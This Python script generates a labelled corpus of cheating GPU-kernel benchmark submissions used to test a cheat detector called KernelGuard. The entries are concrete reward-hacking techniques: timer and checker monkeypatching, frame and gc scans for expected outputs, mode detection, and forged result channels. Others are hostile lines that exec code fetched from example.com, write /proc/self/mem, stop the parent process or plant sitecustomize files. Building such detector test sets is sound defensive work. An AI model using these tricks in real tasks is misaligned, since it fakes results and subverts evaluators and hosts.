#!/usr/bin/env python3
"""Writes the cheating half of the audit corpus (tests/audit/corpus/cheat/<family>/).

Each cheat is a working-looking submission plus one exploit technique, often disguised the way
KernelGuard's blind spots invite (renamed caches, aliases, getattr with built strings, exec of
encoded payloads, attacks from inline C++). Deterministic: rerun after editing, commit the output.
"""
import base64, os, shutil, zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "cheat")

BASE = '''import torch
from task import input_t, output_t
'''
KERNEL = '''

def custom_kernel(data: input_t) -> output_t:
    a, b = data
    return a + b
'''

def py(pre, kernel=KERNEL):
    return BASE + pre.strip("\n") + "\n" + kernel

def b64(src):
    return base64.b64encode(src.encode()).decode()

INLINE_TMPL = '''import torch
from torch.utils.cpp_extension import load_inline

cuda_src = r"""
#include <torch/extension.h>
#include <ATen/cuda/CUDAContext.h>
{body}
"""

mod = load_inline("ext", cpp_sources="torch::Tensor run(torch::Tensor a, torch::Tensor b);",
                  cuda_sources=cuda_src, functions=["run"])


def custom_kernel(data):
    a, b = data
    return mod.run(a, b)
'''
def inline(body):
    return INLINE_TMPL.replace("{body}", body.strip("\n"))

ADD_KERNEL = '''__global__ void add(const float* a, const float* b, float* o, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) o[i] = a[i] + b[i];
}'''

CHEATS = {
"timer-patching": {
  "event_elapsed_direct.py": py("torch.cuda.Event.elapsed_time = lambda self, end: 0.001"),
  "event_alias.py": py("E = torch.cuda.Event\n_orig = E.elapsed_time\nE.elapsed_time = lambda s, e: _orig(s, e) * 0.1"),
  "event_getattr_concat.py": py("ev = getattr(torch.cuda, 'Ev' + 'ent')\nsetattr(ev, 'elapsed' + '_time', lambda s, e: 0.01)"),
  "event_class_swap.py": py("class FastEvent:\n    def __init__(self, **kw): pass\n    def record(self, *a): pass\n    def synchronize(self): pass\n    def elapsed_time(self, o): return 0.002\n\ntorch.cuda.Event = FastEvent"),
  "perf_counter_patch.py": py("import time\n_t = time.perf_counter\ntime.perf_counter = lambda: _t() * 0.5"),
  "sync_noop.py": py("torch.cuda.synchronize = lambda *a, **k: None"),
  "importlib_event.py": py("import importlib\ncuda = importlib.import_module('torch.cuda')\ncuda.Event.elapsed_time = lambda s, e: 0.0"),
  "sys_modules_clock.py": py("import sys\nsys.modules['time'].perf_counter = lambda: 0.0"),
  "do_bench_patch.py": py("import triton.testing as tt\ntt.do_bench = lambda fn, *a, **k: 0.001"),
  "native_elapsed.cu": '#include <cuda_runtime.h>\nextern "C" cudaError_t cudaEventElapsedTime(float* ms, cudaEvent_t a, cudaEvent_t b) {\n    *ms = 0.001f;\n    return cudaSuccess;\n}\n',
  "event_subclass.py": py("class E(torch.cuda.Event):\n    def elapsed_time(self, other):\n        return super().elapsed_time(other) / 4\n\ntorch.cuda.__dict__.update(Event=E)"),
},
"harness-patching": {
  "checker_rebind.py": py("import reference\nreference.check_implementation = lambda data, out: (True, '')"),
  "allclose_patch.py": py("torch.allclose = lambda *a, **k: True"),
  "sys_modules_utils.py": py("import sys, types\nfake = types.ModuleType('utils')\nfake.verbose_allclose = lambda *a, **k: []\nsys.modules['utils'] = fake"),
  "reference_call.py": py("from reference import ref_kernel", kernel="\n\ndef custom_kernel(data):\n    return ref_kernel(data)\n"),
  "code_swap.py": py("import utils\nutils.verbose_allclose.__code__ = (lambda *a, **k: []).__code__"),
  "setattr_checker.py": py("import sys\nsetattr(sys.modules['reference'], 'check_' + 'implementation', lambda d, o: (True, 'ok'))"),
  "assert_close_alias.py": py("import torch.testing as T\nT.assert_close = lambda *a, **k: None"),
},
"frame-gc-walks": {
  "getframe_expected.py": py("import sys", kernel="\n\ndef custom_kernel(data):\n    f = sys._getframe(1)\n    while f is not None:\n        if 'expected' in f.f_locals:\n            return f.f_locals['expected']\n        f = f.f_back\n    a, b = data\n    return a + b\n"),
  "gc_scan_tensors.py": py("import gc", kernel="\n\ndef custom_kernel(data):\n    a, b = data\n    for o in gc.get_objects():\n        if torch.is_tensor(o) and o.shape == a.shape and o is not a and o is not b:\n            return o.clone()\n    return a + b\n"),
  "inspect_stack.py": py("import inspect", kernel="\n\ndef custom_kernel(data):\n    for fr in inspect.stack():\n        loc = fr.frame.f_locals\n        if 'ref_out' in loc:\n            return loc['ref_out']\n    return data[0] + data[1]\n"),
  "gc_alias.py": py("import gc as _g\nscan = _g.get_objects", kernel="\n\ndef custom_kernel(data):\n    hits = [o for o in scan() if torch.is_tensor(o) and o.is_cuda]\n    return hits[-1]\n"),
  "referrers.py": py("import gc", kernel="\n\ndef custom_kernel(data):\n    owners = gc.get_referrers(data)\n    return data[0] + data[1]\n"),
  "traceback_frame.py": py("import sys", kernel="\n\ndef custom_kernel(data):\n    try:\n        raise RuntimeError\n    except RuntimeError:\n        tb = sys.exc_info()[2]\n        caller = tb.tb_frame.f_back\n    return caller.f_locals.get('output', data[0] + data[1])\n"),
  "native_frame.py": inline(ADD_KERNEL + '''
#include <Python.h>
torch::Tensor run(torch::Tensor a, torch::Tensor b) {
    PyObject* frame = (PyObject*)PyEval_GetFrame();
    (void)frame;
    auto o = torch::empty_like(a);
    add<<<(a.numel() + 255) / 256, 256>>>(a.data_ptr<float>(), b.data_ptr<float>(), o.data_ptr<float>(), a.numel());
    return o;
}'''),
},
"result-caching": {
  "memo_data_ptr.py": py("_memo = {}", kernel="\n\ndef custom_kernel(data):\n    a, b = data\n    key = (a.data_ptr(), b.data_ptr())\n    if key in _memo:\n        return _memo[key]\n    out = a + b\n    _memo[key] = out\n    return out\n"),
  "id_cache.py": py("_seen = {}", kernel="\n\ndef custom_kernel(data):\n    if id(data) in _seen:\n        return _seen[id(data)]\n    r = _seen[id(data)] = data[0] + data[1]\n    return r\n"),
  "content_hash.py": py("_store = {}", kernel="\n\ndef custom_kernel(data):\n    a, b = data\n    k = a.cpu().numpy().tobytes()\n    if k in _store:\n        return _store[k]\n    _store[k] = a + b\n    return _store[k]\n"),
  "ptr_variable_key.py": py("_r = {}", kernel="\n\ndef custom_kernel(data):\n    p = data[0].data_ptr()\n    out = _r.get(p)\n    if out is None:\n        out = _r[p] = data[0] + data[1]\n    return out\n"),
  "shape_return.py": py("_results = {}", kernel="\n\ndef custom_kernel(data):\n    a, b = data\n    if a.shape in _results:\n        return _results[a.shape]\n    _results[a.shape] = a + b\n    return _results[a.shape]\n"),
  "call_counter.py": py("_calls = 0\n_last = None", kernel="\n\ndef custom_kernel(data):\n    global _calls, _last\n    _calls += 1\n    if _calls > 3 and _last is not None:\n        return _last\n    _last = data[0] + data[1]\n    return _last\n"),
  "graph_replay.py": py("_g = None\n_static = None", kernel="\n\ndef custom_kernel(data):\n    global _g, _static\n    if _g is None:\n        _g = torch.cuda.CUDAGraph()\n        with torch.cuda.graph(_g):\n            _static = data[0] + data[1]\n    _g.replay()\n    return _static\n"),
  "lru_entry.py": "import functools\nimport torch\n\n\n@functools.lru_cache(maxsize=None)\ndef custom_kernel(data):\n    a, b = data\n    return a + b\n",
  "sum_item_key.py": py("cache = {}", kernel="\n\ndef custom_kernel(data):\n    s = cache.get(data[0].sum().item())\n    if s is not None:\n        return s\n    out = cache[data[0].sum().item()] = data[0] + data[1]\n    return out\n"),
},
"mode-detection": {
  "env_mode.py": py("import os", kernel="\n\ndef custom_kernel(data):\n    a, b = data\n    if os.environ.get('POPCORN_MODE', '') == 'leaderboard':\n        return a\n    return a + b\n"),
  "argv_mode.py": py("import sys", kernel="\n\ndef custom_kernel(data):\n    a, b = data\n    if 'benchmark' in sys.argv:\n        return torch.empty_like(a)\n    return a + b\n"),
  "warmup_count.py": py("_n_invocations = 0", kernel="\n\ndef custom_kernel(data):\n    global _n_invocations\n    _n_invocations += 1\n    if _n_invocations <= 2:\n        return data[0] + data[1]\n    return data[0]\n"),
  "capture_detect.py": py("", kernel="\n\ndef custom_kernel(data):\n    if torch.cuda.is_current_stream_capturing():\n        return data[0]\n    return data[0] + data[1]\n"),
  "caller_name.py": py("import sys", kernel="\n\ndef custom_kernel(data):\n    if 'benchmark' in sys._getframe(1).f_code.co_name:\n        return data[0]\n    return data[0] + data[1]\n"),
},
"lazy-outputs": {
  "tensor_eq_patch.py": py("torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)"),
  "torch_function_lazy.py": py("class Lazy(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, func, types, args=(), kwargs=None):\n        return func(*args, **(kwargs or {}))", kernel="\n\ndef custom_kernel(data):\n    a, b = data\n    return a.as_subclass(Lazy)\n"),
  "dispatch_override.py": py("class Fake(torch.Tensor):\n    @staticmethod\n    def __torch_dispatch__(func, types, args=(), kwargs=None):\n        return func(*args, **(kwargs or {}))"),
  "allclose_method.py": py("T = torch.Tensor\nsetattr(T, 'allclose', lambda *a, **k: True)"),
  "deferred_getattr.py": py("class Deferred:\n    def __init__(self, fn):\n        self.fn = fn\n    def __getattr__(self, k):\n        return getattr(self.fn(), k)", kernel="\n\ndef custom_kernel(data):\n    a, b = data\n    return Deferred(lambda: a + b)\n"),
  "aten_override.py": py("lib = torch.library.Library('aten', 'IMPL')\nlib.impl('eq.Tensor', lambda a, b: torch.ones_like(a, dtype=torch.bool), 'CUDA')"),
  "item_patch_alias.py": py("import torch as th\nth.Tensor.item = lambda self: 0.0"),
},
"input-passthrough": {
  "return_data0.py": "import torch\n\n\ndef custom_kernel(data):\n    return data[0]\n",
  "return_data.py": "import torch\n\n\ndef custom_kernel(data):\n    \"\"\"in place\"\"\"\n    return data\n",
  "return_clone.py": "import torch\n\n\ndef custom_kernel(data):\n    return data[0].clone()\n",
  "unpack_return.py": "import torch\n\n\ndef custom_kernel(data):\n    x, out = data\n    return x\n",
  "empty_like.py": "import torch\n\n\ndef custom_kernel(data):\n    a, b = data\n    return torch.empty_like(a)\n",
  "zeros.py": "import torch\n\n\ndef custom_kernel(data):\n    return torch.zeros_like(data[0])\n",
},
"side-streams": {
  "single_side_stream.py": py("_s = torch.cuda.Stream()", kernel="\n\ndef custom_kernel(data):\n    a, b = data\n    with torch.cuda.stream(_s):\n        out = a + b\n    return out\n"),
  "inline_stream_create.py": inline(ADD_KERNEL + '''
torch::Tensor run(torch::Tensor a, torch::Tensor b) {
    static cudaStream_t s = nullptr;
    if (!s) cudaStreamCreateWithFlags(&s, cudaStreamNonBlocking);
    auto o = torch::empty_like(a);
    add<<<(a.numel() + 255) / 256, 256, 0, s>>>(a.data_ptr<float>(), b.data_ptr<float>(), o.data_ptr<float>(), a.numel());
    return o;
}'''),
  "stream_pool.py": inline(ADD_KERNEL + '''
torch::Tensor run(torch::Tensor a, torch::Tensor b) {
    auto s = at::cuda::getStreamFromPool();
    auto o = torch::empty_like(a);
    add<<<(a.numel() + 255) / 256, 256, 0, s>>>(a.data_ptr<float>(), b.data_ptr<float>(), o.data_ptr<float>(), a.numel());
    return o;
}'''),
  "per_thread_stream.cu": '#include <cuda_runtime.h>\n' + ADD_KERNEL + '\nvoid launch(const float* a, const float* b, float* o, int n) {\n    add<<<(n + 255) / 256, 256, 0, cudaStreamPerThread>>>(a, b, o, n);\n}\n',
  "native_stream.cu": '#include <cuda_runtime.h>\n' + ADD_KERNEL + '\nstatic cudaStream_t side;\nvoid launch(const float* a, const float* b, float* o, int n) {\n    if (!side) cudaStreamCreate(&side);\n    add<<<(n + 255) / 256, 256, 0, side>>>(a, b, o, n);\n}\n',
  "aliased_stream.py": py("from torch.cuda import Stream as S\n_side = S()", kernel="\n\ndef custom_kernel(data):\n    with torch.cuda.stream(_side):\n        return data[0] + data[1]\n"),
},
"background-work": {
  "thread_finish.py": py("import threading", kernel="\n\ndef custom_kernel(data):\n    a, b = data\n    out = torch.empty_like(a)\n    threading.Thread(target=lambda: torch.add(a, b, out=out)).start()\n    return out\n"),
  "fork_child.py": py("import os", kernel="\n\ndef custom_kernel(data):\n    if os.fork() == 0:\n        os._exit(0)\n    return data[0] + data[1]\n"),
  "mp_process.py": py("import multiprocessing as mp", kernel="\n\ndef custom_kernel(data):\n    p = mp.Process(target=print)\n    p.start()\n    return data[0] + data[1]\n"),
  "timer_thread.py": py("from threading import Timer", kernel="\n\ndef custom_kernel(data):\n    out = torch.empty_like(data[0])\n    Timer(0.0001, lambda: out.copy_(data[0] + data[1])).start()\n    return out\n"),
  "native_thread.py": inline(ADD_KERNEL + '''
#include <thread>
torch::Tensor run(torch::Tensor a, torch::Tensor b) {
    auto o = torch::empty_like(a);
    std::thread t([=]() mutable { add<<<(a.numel() + 255) / 256, 256>>>(a.data_ptr<float>(), b.data_ptr<float>(), o.data_ptr<float>(), a.numel()); });
    t.detach();
    return o;
}'''),
  "executor.py": py("from concurrent.futures import ThreadPoolExecutor\n_pool = ThreadPoolExecutor(1)", kernel="\n\ndef custom_kernel(data):\n    out = torch.empty_like(data[0])\n    _pool.submit(torch.add, data[0], data[1], out=out)\n    return out\n"),
},
"results-channel": {
  "fd_scan_write.py": py("import os", kernel="\n\ndef custom_kernel(data):\n    for fd in os.listdir('/proc/self/fd'):\n        try:\n            os.write(int(fd), b'')\n        except OSError:\n            pass\n    return data[0] + data[1]\n"),
  "dup2_stdout.py": py("import os\n_null = os.open(os.devnull, os.O_WRONLY)\nos.dup2(_null, 1)"),
  "os_write_fd3.py": py("import os\nos.write(3, b'{\"status\": \"pass\", \"time_us\": 0.5}\\n')"),
  "fdopen_forge.py": py("import os\n_ch = os.fdopen(4, 'w')\n_ch.write('PASS 0.001\\n')\n_ch.flush()"),
  "stdout_swap.py": py("import sys, io\nsys.stdout = io.StringIO()"),
  "native_dup2.py": inline(ADD_KERNEL + '''
#include <unistd.h>
#include <fcntl.h>
torch::Tensor run(torch::Tensor a, torch::Tensor b) {
    int fd = open("/dev/null", O_WRONLY);
    dup2(fd, 1);
    auto o = a + b;
    return o;
}'''),
  "socket_report.py": py("import socket\n_s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)"),
},
"native-tampering": {
  "ctypes_poke.py": py("import ctypes", kernel="\n\ndef custom_kernel(data):\n    a, b = data\n    out = a + b\n    ctypes.memmove(id(out) + 16, id(a) + 16, 8)\n    return out\n"),
  "proc_self_mem.py": py("def _patch(addr, payload):\n    with open('/proc/self/mem', 'r+b') as m:\n        m.seek(addr)\n        m.write(payload)"),
  "ptrace_parent.py": py("import ctypes, os\nlibc = ctypes.CDLL(None)\nlibc.ptrace(16, os.getppid(), 0, 0)"),
  "mprotect_patch.py": py("import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.mprotect(0x400000, 4096, 7)"),
  "got_patch.cu": '#include <dlfcn.h>\n#include <link.h>\n#include <cuda_runtime.h>\nstatic int patch(struct dl_phdr_info* info, size_t, void*) {\n    // walk .got.plt of libcudart and redirect cudaEventElapsedTime\n    return 0;\n}\nvoid init() { dl_iterate_phdr(patch, nullptr); }\n',
  "dlsym_next.cu": '#define _GNU_SOURCE\n#include <dlfcn.h>\n#include <cuda_runtime.h>\ntypedef cudaError_t (*fn_t)(float*, cudaEvent_t, cudaEvent_t);\ncudaError_t my_elapsed(float* ms, cudaEvent_t a, cudaEvent_t b) {\n    static fn_t real = (fn_t)dlsym(RTLD_NEXT, "cudaEventElapsedTime");\n    cudaError_t e = real(ms, a, b);\n    *ms *= 0.5f;\n    return e;\n}\n',
  "from_address.py": py("import ctypes", kernel="\n\ndef custom_kernel(data):\n    v = ctypes.c_double.from_address(id(data) + 24)\n    return data[0] + data[1]\n"),
  "pythonapi.py": py("import ctypes\nctypes.pythonapi.PyObject_SetAttrString"),
  "ld_preload.py": py("import os\nos.environ['LD_PRELOAD'] = '/tmp/fasttimer.so'"),
  "native_proc_mem.py": inline(ADD_KERNEL + '''
#include <fcntl.h>
#include <unistd.h>
torch::Tensor run(torch::Tensor a, torch::Tensor b) {
    int fd = open("/proc/self/mem", O_RDWR);
    close(fd);
    return a + b;
}'''),
},
"gpu-memory-scan": {
  "memory_snapshot.py": py("", kernel="\n\ndef custom_kernel(data):\n    segs = torch.cuda.memory_snapshot()\n    return data[0] + data[1]\n"),
  "unowned_memory.py": py("import cupy as cp", kernel="\n\ndef custom_kernel(data):\n    base = data[0].data_ptr() + (1 << 20)\n    mem = cp.cuda.UnownedMemory(base, 1 << 20, None)\n    ptr = cp.cuda.MemoryPointer(mem, 0)\n    return data[0] + data[1]\n"),
  "ipc_handle.cu": '#include <cuda_runtime.h>\nvoid peek(cudaIpcMemHandle_t h) {\n    void* p;\n    cudaIpcOpenMemHandle(&p, h, cudaIpcMemLazyEnablePeerAccess);\n}\n',
  "pointer_probe.cu": '#include <cuda_runtime.h>\n#include <cuda.h>\nvoid scan(char* base) {\n    for (size_t off = 0; off < (1ull << 30); off += 1 << 21) {\n        cudaPointerAttributes attr;\n        if (cudaPointerGetAttributes(&attr, base + off) == cudaSuccess) { /* found an allocation */ }\n    }\n}\n',
  "from_blob_scan.py": inline(ADD_KERNEL + '''
torch::Tensor run(torch::Tensor a, torch::Tensor b) {
    float* neighbour = a.data_ptr<float>() + a.numel() * 4;
    return torch::from_blob(neighbour, a.sizes(), a.options()).clone();
}'''),
  "pluggable_alloc.py": py("alloc = torch.cuda.memory.CUDAPluggableAllocator('./spy.so', 'spy_malloc', 'spy_free')\ntorch.cuda.memory.change_current_allocator(alloc)"),
},
"l2-persistence": {
  "access_window.py": inline(ADD_KERNEL + '''
torch::Tensor run(torch::Tensor a, torch::Tensor b) {
    cudaStreamAttrValue attr = {};
    attr.accessPolicyWindow.base_ptr = a.data_ptr();
    attr.accessPolicyWindow.num_bytes = a.numel() * 4;
    attr.accessPolicyWindow.hitRatio = 1.0f;
    attr.accessPolicyWindow.hitProp = cudaAccessPropertyPersisting;
    attr.accessPolicyWindow.missProp = cudaAccessPropertyStreaming;
    auto s = at::cuda::getCurrentCUDAStream();
    cudaStreamSetAttribute(s, cudaStreamAttributeAccessPolicyWindow, &attr);
    return a + b;
}'''),
  "persist_limit.cu": '#include <cuda_runtime.h>\nvoid setup(size_t bytes) {\n    cudaDeviceSetLimit(cudaLimitPersistingL2CacheSize, bytes);\n}\n',
  "reset_persist.cu": '#include <cuda_runtime.h>\nvoid after() { cudaCtxResetPersistingL2Cache(); }\n',
  "launch_attr_window.cu": '#include <cuda_runtime.h>\nvoid cfg(cudaLaunchAttribute* a, void* p, size_t n) {\n    a->id = cudaLaunchAttributeAccessPolicyWindow;\n    a->val.accessPolicyWindow.base_ptr = p;\n    a->val.accessPolicyWindow.num_bytes = n;\n}\n',
},
"precision-downgrade": {
  "tf32.py": py("torch.backends.cuda.matmul.allow_tf32 = True\ntorch.backends.cudnn.allow_tf32 = True"),
  "matmul_precision.py": py("torch.set_float32_matmul_precision('medium')"),
  "reduced_reduction.py": py("torch.backends.cuda.matmul.allow_fp16_reduced_precision_reduction = True"),
  "cublas_tf32.cu": '#include <cublas_v2.h>\nvoid fast(cublasHandle_t h) { cublasSetMathMode(h, CUBLAS_TF32_TENSOR_OP_MATH); }\n',
},
"fixture-specialisation": {
  "shape_table.py": py("_PRE = {}", kernel="\n\ndef custom_kernel(data):\n    a, b = data\n    if a.shape == (4096, 4096):\n        return _PRE.get('big', a + b)\n    return a + b\n"),
  "seed_check.py": py("", kernel="\n\ndef custom_kernel(data):\n    if torch.initial_seed() == 42:\n        return data[0]\n    return data[0] + data[1]\n"),
  "value_fingerprint.py": py("", kernel="\n\ndef custom_kernel(data):\n    if data[0][0, 0].item() == 0.123:\n        return data[1]\n    return data[0] + data[1]\n"),
  "shape_in_set.py": py("", kernel="\n\ndef custom_kernel(data):\n    a, b = data\n    if tuple(a.shape) in {(1024, 512), (2048, 512)}:\n        return a\n    return a + b\n"),
  "rng_state.py": py("_state = torch.cuda.get_rng_state()"),
  "reseed.py": py("torch.manual_seed(1234)"),
},
"obfuscated-execution": {
  "exec_b64_event.py": py("import base64\nexec(base64.b64decode('" + b64("import torch\ntorch.cuda.Event.elapsed_time = lambda s, e: 0.001\n") + "'))"),
  "exec_zlib.py": py("import zlib, base64\nexec(zlib.decompress(base64.b64decode('" + base64.b64encode(zlib.compress(b"import gc\n_x = gc.get_objects()\n")).decode() + "')))"),
  "exec_chr.py": py("exec(''.join([chr(c) for c in [105, 109, 112]]))"),
  "eval_built.py": py("src = 'torch.cuda.' + 'synchronize'\nfn = eval(src)"),
  "marshal_code.py": py("import marshal\n_code = marshal.loads(bytes.fromhex('e3000000'))\nexec(_code)"),
  "import_hook.py": py("import sys\nclass Finder:\n    def find_spec(self, name, path, target=None):\n        return None\nsys.meta_path.insert(0, Finder())"),
  "rot13.py": py("import codecs\nexec(codecs.decode(" + repr(__import__("codecs").encode("import sys\nsys.settrace(None)\n", "rot13")) + ", 'rot13'))"),
  "hex_payload.py": py("exec(bytes.fromhex('" + "import os\nos.dup2(3, 1)\n".encode().hex() + "').decode())"),
  "getattr_builtins_exec.py": py("import builtins\nrun = getattr(builtins, 'ex' + 'ec')\nrun(''.join(['import gc\\n', '_o = gc.get_', 'objects()\\n']))"),
  "compile_exec.py": py("_c = compile(open(__file__ + '.payload').read(), 'p', 'exec')\nexec(_c)"),
},
"runtime-installs": {
  "pip_install.py": py("import os\nos.system('pip install --quiet fastadd==0.1')"),
  "subprocess_pip.py": py("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'fastadd'])"),
  "urlopen.py": py("import urllib.request\nexec(urllib.request.urlopen('https://example.com/k.py').read())"),
  "requests_get.py": py("import requests\n_w = requests.get('https://example.com/weights.bin').content"),
},
"filesystem-writes": {
  "sitecustomize.py": py("import site\nwith open(site.getsitepackages()[0] + '/sitecustomize.py', 'w') as f:\n    f.write('import torch\\ntorch.allclose = lambda *a, **k: True\\n')"),
  "reference_overwrite.py": py("open('reference.py', 'w').write('def check_implementation(d, o):\\n    return True, \"\"\\n')"),
  "pth_file.py": py("import sys\nopen(sys.prefix + '/lib/python3.11/site-packages/zz.pth', 'w').write('import hack')"),
  "state_file.py": py("import pickle", kernel="\n\ndef custom_kernel(data):\n    out = data[0] + data[1]\n    with open('/tmp/.state', 'wb') as f:\n        f.write(out.cpu().numpy().tobytes())\n    return out\n"),
  "native_write.cu": '#include <cstdio>\nvoid leave_state() {\n    FILE* f = fopen("/tmp/.k", "w");\n    fputs("1", f);\n    fclose(f);\n}\n',
},
"process-hooks": {
  "settrace.py": py("import sys\ndef _t(frame, event, arg):\n    return _t\nsys.settrace(_t)"),
  "os_exit.py": py("import os, atexit\natexit.register(lambda: os._exit(0))"),
  "kill_parent.py": py("import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)"),
  "signal_handler.py": py("import signal\nsignal.signal(signal.SIGALRM, lambda *a: None)"),
  "audit_hook.py": py("import sys\nsys.addaudithook(lambda ev, args: None)"),
  "native_kill.py": inline(ADD_KERNEL + '''
#include <signal.h>
#include <unistd.h>
torch::Tensor run(torch::Tensor a, torch::Tensor b) {
    kill(getppid(), SIGSTOP);
    return a + b;
}'''),
},
}

def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    n = 0
    for family, files in CHEATS.items():
        os.makedirs(os.path.join(OUT, family))
        for name, text in files.items():
            with open(os.path.join(OUT, family, name), "w") as f:
                f.write(text)
            n += 1
    print(f"wrote {n} cheating files in {len(CHEATS)} families to {OUT}")

if __name__ == "__main__":
    main()
